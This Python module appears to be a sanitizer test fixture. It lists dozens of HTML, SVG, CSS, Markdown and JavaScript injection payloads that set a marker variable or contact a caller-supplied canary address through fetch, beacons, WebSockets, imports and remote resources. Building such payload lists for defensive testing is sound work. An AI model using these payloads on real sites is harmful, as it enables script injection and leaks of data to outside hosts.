# ruff: noqa: E501 - one attack is one string, whole
"""HTML that tries to run script or reach another host; spliced into the page as if cleaned."""

from __future__ import annotations

_RUN = "window.hit=(window.hit||0)+1"


def attacks(canary: str) -> list[str]:
    """Return attacks that would set `window.hit` or ask `canary` (an http address)."""
    fetched = f"fetch('{canary}/fetch')"
    encoded = "data:text/html,<script>parent.hit=1</script>"
    return [
        f"<script>{_RUN};{fetched}</script>",
        f"<script src='{canary}/script.js'></script>",
        "<script src='data:text/javascript,window.hit=1'></script>",
        f"<script type=module src='{canary}/module.js'></script>",
        f"<img src='{canary}/a.png'><img src=x onerror=\"{_RUN}\">",
        f"<img srcset='{canary}/a.png 1x'><picture><source srcset='{canary}/b.png'><img></picture>",
        f"<svg onload=\"{_RUN}\"><script>{_RUN}</script><image href='{canary}/svg.png'/></svg>",
        f"<svg><use href='{canary}/use.svg#a'/></svg><svg><animate onbegin=\"{_RUN}\" attributeName=x dur=1s/></svg>",
        f"<style>@import '{canary}/i.css'; body{{background:url({canary}/bg.png)}}</style>",
        f"<link rel=stylesheet href='{canary}/l.css'><link rel=prefetch href='{canary}/pre'>",
        f"<link rel=preconnect href='{canary}'><link rel=dns-prefetch href='{canary}'>",
        f'<p style="background:url({canary}/style.png)">x</p>',
        f"<iframe src='{canary}/frame'></iframe><iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
        f"<iframe src=\"{encoded}\"></iframe><iframe src='javascript:parent.hit=1'></iframe>",
        f"<object data='{canary}/o'></object><embed src='{canary}/e'>",
        f"<video src='{canary}/v.mp4' autoplay poster='{canary}/p.png'></video>",
        f"<audio src='{canary}/a.mp3' autoplay></audio><track src='{canary}/t.vtt'>",
        f"<meta http-equiv=refresh content='0;url={canary}/refresh'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,gone'>",
        f"<base href='{canary}/'><a href=x ping='{canary}/ping'>x</a>",
        f"<form action='{canary}/form'><input autofocus onfocus=\"{_RUN}\"><button>x</button></form>",
        f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
        f'<math><mtext><img src=x onerror="{_RUN}"></mtext></math>',
        f'<body onload="{_RUN}"><marquee onstart="{_RUN}">x</marquee>',
        f"<input type=image src='{canary}/input.png'><table background='{canary}/t.png'><td>x</table>",
        f"<portal src='{canary}/portal'></portal><fencedframe src='{canary}/ff'></fencedframe>",
        f"<style>@font-face{{font-family:x;src:url({canary}/f.woff2)}}body{{font-family:x}}</style>",
        f"<style>@import url({canary}/u.css);@import '{canary}/v.css' layer(x);</style>",
        f"<style>li{{list-style:url({canary}/li.png)}}*{{cursor:url({canary}/c.cur),auto}}</style><li>x",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.hit=1\"/>'>",
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{canary}/in.png'/></svg>\">",
        "<object data='data:text/html,<script>parent.hit=1</script>'></object><embed src='data:text/html,x'>",
        "<iframe src='blob:gongji-phone://page/1'></iframe><img src='blob:gongji-phone://page/1'>",
        f"<frameset><frame src='{canary}/fs'></frameset><iframe name=x></iframe><a target=x href='{canary}/t'>x</a>",
        f"<a href='{canary}/d' download id=d>x</a><label for=d>y</label>",
        f"<link rel=prefetch href='{canary}/1'><link rel=prerender href='{canary}/2'>",
        f"<link rel=preload as=image href='{canary}/3'><link rel=modulepreload href='{canary}/4'>",
        f"<link rel=icon href='{canary}/icon'><link rel=manifest href='{canary}/m.json'>",
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{canary}/spec"]}}]}}</script>',
        f'<script type=importmap>{{"imports":{{"x":"{canary}/map.js"}}}}</script>',
        f"<form action='{canary}/auto' id=f></form><input form=f type=submit formaction='{canary}/s'>",
        f"<details open ontoggle=\"{_RUN}\"><summary onclick=\"{_RUN}\"><img src='{canary}/sum.png'></summary></details>",
        f"<figure><img src='{canary}/fig.png' onerror=\"{_RUN}\"><figcaption style='background:url({canary}/cap)'>",
        f"<a class=button href=\"javascript:{_RUN}\" ping='{canary}/ping'>x</a>",
        f"<div class=callout role=note style='background-image:url({canary}/call)' onfocus=\"{_RUN}\" tabindex=0 autofocus>",
        f"<svg><style>@import '{canary}/svg.css';</style><foreignObject><iframe src='{canary}/fo'></foreignObject></svg>",
        f"<svg><a href=\"javascript:{_RUN}\"><text>x</text></a><feImage href='{canary}/fe'/></svg>",
        f"<math href='{canary}/math'><mglyph src='{canary}/g'></math><image src='{canary}/image'>",
        f"<template shadowrootmode=open><script>{_RUN}</script><img src='{canary}/sh'></template>",
        f"<video><source src='{canary}/so.mp4'><track default src='{canary}/tr.vtt'></video>",
        "<meta http-equiv=refresh content='0'><meta http-equiv=set-cookie content='a=1'>",
        f"<meta http-equiv=Content-Security-Policy content='report-uri {canary}/csp'>",
    ]  # fmt: skip


def scripts(canary: str) -> list[str]:
    """Return script that a page must not be able to carry out even where it does run."""
    return [
        f"fetch('{canary}/x').catch(() => 0)",
        f"new Image().src = '{canary}/img'",
        f"navigator.sendBeacon('{canary}/beacon')",
        f"new WebSocket('{canary.replace('http', 'ws')}/ws')",
        f"new EventSource('{canary}/sse')",
        f"window.open('{canary}/window')",
        f"location.href = '{canary}/location'",
        "location.href = 'data:text/html,gone'",
        "location.href = URL.createObjectURL(new Blob(['<p>gone'], {type: 'text/html'}))",
        (
            f"document.body.appendChild(Object.assign(document.createElement('a'), "
            f"{{href: '{canary}/download', download: 'x'}})).click()"
        ),
        f"navigator.serviceWorker?.register('{canary}/sw.js')",
        f"new Worker('{canary}/worker.js')",
        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.hit = 1 }",
        f"import('{canary}/dynamic.js')",
        f"new XMLHttpRequest().open('GET', '{canary}/xhr')",
        f"(x => {{ x.open('POST', '{canary}/xhr'); x.send('a') }})(new XMLHttpRequest())",
        f"(f => {{ f.action = '{canary}/form'; document.body.append(f); f.submit() }})(document.createElement('form'))",
        f"window.open('data:text/html,x'); window.open('blob:{canary}/1'); open('{canary}/w', '_blank', 'popup')",
        f"new FontFace('x', 'url({canary}/face.woff2)').load().catch(() => 0)",
        f"document.body.style.background = 'url({canary}/css)'",
        f"new RTCPeerConnection({{iceServers: [{{urls: 'stun:{canary.removeprefix('http://')}'}}]}}).createOffer()",
        f"history.pushState(0, '', '/x'); location.assign('{canary}/assign')",
        f"document.querySelector('link[rel=stylesheet]').href = '{canary}/style.css'",
        "eval('window.hit = 1')",
        "setTimeout('window.hit = 1', 0)",
        "new Function('window.hit = 1')()",
    ]


def markdown(canary: str) -> str:
    """Return a notice whose every paragraph tries something."""
    links = (
        f"![x]({canary}/md.png)", f"[x]({canary}/link)", "[x](javascript:window.hit=1)",
        "![x](data:image/svg+xml,<svg onload='window.hit=1'>)", f"<{canary}/auto>",
        f"[a]: {canary}/ref\n\n![a][a]",
        f"[[x]]({canary}/button)\n[[x]](javascript:window.hit=1)", f"![x]({canary}/fig.png)\n*x*",
        f"> [!안내] <img src={canary}/call.png>\n> ![x]({canary}/call.png)",
        f"> [?] <script>window.hit=1</script>\n> <iframe src={canary}/fold></iframe> ![x]({canary}/f.png)",
    )  # fmt: skip
    return "\n\n".join([*attacks(canary), *links])
